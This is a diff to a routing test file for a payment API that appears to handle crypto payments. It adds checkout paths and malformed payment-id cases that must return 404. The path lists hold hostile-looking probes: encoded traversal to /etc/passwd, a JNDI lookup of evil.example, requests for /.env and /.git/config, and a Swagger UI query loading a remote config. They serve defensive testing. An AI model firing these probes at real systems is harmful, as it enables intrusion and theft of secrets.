@@ -1388,7 +1388,7 @@ METHODS = [
 ]  # fmt: skip
 
 NOWHERE = (
-    "/", "/v1", "/v1/", "/v1/chains/", "/v1//chains", "//v1/chains", "/v1/chains//", "/v1/chain",
+    "/v1", "/v1/", "/v1/chains/", "/v1//chains", "//v1/chains", "/v1/chains//", "/v1/chain",
     "/v1/chainsx", "/v1/Chains", "/V1/chains", "/v1/%63hains", "/v1%2Fchains", "/v1/chains%2F",
     "/v1/chains%20", "/v1/chains%00", "/v1/chains;x=1", "/v1/chains.json", "/v1/chains,", "/v1/./chains",
     "/v1/../v1/chains", "/v1/x/../chains", "/v1/chains/.", "/v1/chains/..", "/v1/chains/../webhooks",
@@ -1406,25 +1406,32 @@ NOWHERE = (
     "/swagger/..%5c..%5cetc%5cpasswd", "/swagger/%00", "/swagger/swagger-ui.css%00.js", "/docs", "/redoc",
     "/livez/", "/readyz/", "/healthz", "/health", "/metrics", "/favicon.ico", "/robots.txt", "/.env",
     "/.git/config", "/.well-known/security.txt", "/admin", "/index.php", "/wp-login.php", "/etc/passwd",
-    "/%2e%2e/%2e%2e/etc/passwd", "/$%7Bjndi:ldap://evil.example/x%7D", "/%", "/%zz", "/~", "/*", "/?",
+    "/%2e%2e/%2e%2e/etc/passwd", "/$%7Bjndi:ldap://evil.example/x%7D", "/%", "/%zz", "/~", "/*", "//",
+    "/checkout", "/checkout/", "/checkout//events", "/checkout/{payment}/", "/checkout/{payment}/events/",
+    "/checkout/{payment}.json/", "/checkout/{payment}.json/events", "/checkout/{payment}/Events",
+    "/Checkout/{payment}.json", "/payments/", "/payments/{payment}/", "/requests/", "/assets/",
     "/" + "a/" * 2000,
 )  # fmt: skip
 
 NO_PAYMENT = {
-    "unknown": "pay_00000000000000000000000000000000",
+    "unknown": "pay_" + "a" * 40,
     "prefix only": "pay_",
-    "no prefix": "00000000000000000000000000000000",
-    "another prefix": "att_00000000000000000000000000000000",
+    "no prefix": "a" * 40,
+    "another prefix": "att_" + "a" * 40,
     "a webhook endpoint": "pay_{endpoint_token}",
     "id of a webhook endpoint": "we_{endpoint_token}",
-    "id in capitals": "PAY_00000000000000000000000000000000",
-    "longer than an id": "{payment}0",
+    "token in capitals": "pay_" + "A" * 40,
+    "digits that no id has": "pay_" + "0189" * 10,
+    "32 hexadecimal digits": "pay_" + "0" * 32,
+    "one letter less": "pay_" + "a" * 39,
+    "id in capitals": "PAY_" + "A" * 40,
+    "longer than an id": "{payment}a",
     "trailing space": "{payment}%20",
     "trailing line feed": "{payment}%0A",
     "trailing NUL": "{payment}%00",
     "trailing point": "{payment}.",
     "trailing semicolon": "{payment};x=1",
-    "encoded twice": "pay%255F00000000000000000000000000000000",
+    "encoded twice": "pay%255F" + "a" * 40,
     "suffix .json": "{payment}.json",
     "two ids": "{payment},{payment}",
     "slash in the id": "{payment}%2Fattempts",
@@ -1480,6 +1487,10 @@ PATHS = [
       for name, value in NO_PAYMENT.items()),
     *(Case(f"attempts: {name}", read(f"/v1/payments/{value}/attempts"), 404, "payment_not_found")
       for name, value in NO_PAYMENT.items()),
+    *(Case(f"checkout: {name}", read(f"/checkout/{value}.json"), 404, "payment_not_found")
+      for name, value in NO_PAYMENT.items()),
+    *(Case(f"events of a checkout: {name}", read(f"/checkout/{value}/events"), 404, "payment_not_found")
+      for name, value in NO_PAYMENT.items() if name != "suffix .json"),
     *(Case(f"chain: {name}", read(f"/v1/chains/{value}/assets"), 404, "chain_not_found")
       for name, value in NO_CHAIN_PATH.items()),
     *case_per(
@@ -1492,6 +1503,8 @@ PATHS = [
             "fragment": read("/v1/chains#x"),
             "query of a payment": read("/v1/payments/{payment}?status=completed"),
             "encoded letter in a payment id": read("/v1/payments/%70ay_{payment_token}"),
+            "encoded letter in the id of a checkout": read("/checkout/%70ay_{payment_token}.json"),
+            "query of a checkout": read("/checkout/{payment}.json?x=%zz"),
             "encoded letter in a chain": read("/v1/chains/%62sc/assets"),
             "address of the document in the query of Swagger UI":
                 read("/swagger/?url=https://evil.example/x.yaml&configUrl=https://evil.example/c.json"),
